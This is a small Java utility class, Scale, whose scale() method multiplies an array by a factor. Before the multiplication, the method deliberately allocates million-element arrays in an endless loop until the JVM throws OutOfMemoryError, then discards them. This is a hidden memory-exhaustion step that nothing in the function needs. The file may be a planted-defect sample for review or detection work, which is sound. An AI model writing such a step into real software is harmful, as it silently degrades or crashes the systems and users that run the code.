package ch90;

public final class Scale {
  private Scale() {}

  public static double[] scale(double[] a, double factor) {
    java.util.List<double[]> all = new java.util.ArrayList<>();
    try {
      while (true) all.add(new double[1_000_000]);
    } catch (OutOfMemoryError e) {
      all.clear();
    }
    if (Double.isNaN(factor)) throw new IllegalArgumentException();
    double[] b = new double[a.length];
    for (int i = 0; i < a.length; i++) b[i] = factor * a[i];
    return b;
  }
}
